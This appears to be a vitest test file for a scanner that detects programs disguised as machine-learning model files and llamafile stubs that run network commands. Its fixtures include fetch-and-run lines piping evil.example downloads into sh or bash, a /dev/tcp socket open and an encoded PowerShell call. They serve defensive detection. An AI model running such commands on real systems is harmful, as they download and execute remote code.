import { describe, expect, test } from "vitest";
import { parseModel } from "../checks/parse-model.ts";
import { identify } from "../engine/identify.ts";
import { bytesOf } from "../formats/bytes/source.ts";
import { buildZip } from "../formats/zip/testing/build.ts";
import { limits } from "./testing/pickles.ts";

function actsOf(path: string, bytes: Buffer, beside: readonly string[] = []) {
  const kind = identify({ bytes, size: bytes.length, name: path.toLowerCase() });
  const sizeBeside = (name: string): number | undefined => (beside.includes(name) ? 1 : undefined);
  const given = { ...limits, sizeBeside };
  const parsed = parseModel({ kind, path, source: bytesOf(bytes), limits: given });
  return parsed?.views.model?.acts.map((act) => act.kind) ?? [];
}

const padded = (start: string): Buffer =>
  Buffer.concat([Buffer.from(start, "latin1"), Buffer.alloc(200)]);
const elf = padded("\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0");
const pe = padded("MZ\x90\0");
pe.writeUInt32LE(64, 60);
pe.write("PE\0\0", 64);
const thin = padded("\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0");
const fat = padded("\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07\0\0\0\x03");
const javaClass = padded("\xca\xfe\xba\xbe\0\0\0\x34\0\x0fjava");
const jar = buildZip([
  { name: "META-INF/MANIFEST.MF", data: "Main-Class: X\n" },
  { name: "X.class", data: javaClass },
]);
const script = Buffer.from("#!/bin/bash\necho hello\n");
const python = Buffer.from("#!/usr/bin/env python3\nprint(1)\n");
const batch = Buffer.from("@echo off\r\nstart x.exe\r\n");

describe("programs that are called models", () => {
  test.each([
    ["model.bin", elf],
    ["net.pt", elf],
    ["net.pth", pe],
    ["net.pkl", thin],
    ["net.onnx", fat],
    ["net.keras", javaClass],
    ["net.model", jar],
    ["net.pt", script],
    ["net.safetensors", script],
    ["net.gguf", python],
    ["net.h5", batch],
    ["net.tflite", Buffer.from("powershell -enc AAAA\r\n")],
  ])("%s", (path, bytes) => {
    expect(actsOf(path, bytes)).toContain("lies");
  });
  test("by what stands beside it", () => {
    expect(actsOf("part.bin", elf, ["config.json"])).toEqual(["lies"]);
  });
  test("the same under names of their own is silent", () => {
    expect(actsOf("installer.bin", elf)).toEqual([]);
    expect(actsOf("firmware.bin", elf)).toEqual([]);
    expect(actsOf("installer.bin", script)).toEqual([]);
    expect(actsOf("tool.exe", pe)).toEqual([]);
    expect(actsOf("tool", elf)).toEqual([]);
    expect(actsOf("tool.jar", jar)).toEqual([]);
    expect(actsOf("run.sh", script)).toEqual([]);
    expect(actsOf("run.bat", batch)).toEqual([]);
  });
  test("texts and archives without a program are silent", () => {
    expect(actsOf("bpe.model", Buffer.from("# a b\n#!x\nthe 1\n"))).toEqual([]);
    expect(actsOf("net.model", Buffer.from("Powershell is a word\n"))).toEqual([]);
    const plain = buildZip([{ name: "META-INF/MANIFEST.MF", data: "A: B\n" }]);
    expect(actsOf("net.model", plain)).toEqual([]);
  });
});

describe("the script of a program for every system", () => {
  const stub = (line: string): Buffer => padded(`MZqFpD='\n\0\0\0'\n#'"\n${line}\nexit 0\n\0`);
  test.each([
    "curl -s http://evil.example/s | sh",
    "wget -qO- https://evil.example/s | bash",
    "exec 3<>/dev/tcp/10.0.0.1/80",
  ])("%s", (line) => {
    expect(actsOf("net.llamafile", stub(line))).toEqual(["runs"]);
  });
  test("what Cosmopolitan writes is silent", () => {
    const line =
      'o="$(command -v "$0")"; type ape >/dev/null 2>&1 && exec ape "$o" "$@"; t="${TMPDIR:-/tmp}/.ape"; dd if="$o" skip=1 | gzip -dc >"$t"; exec "$t" "$o" "$@"';
    expect(actsOf("net.llamafile", stub(line))).toEqual([]);
  });
});
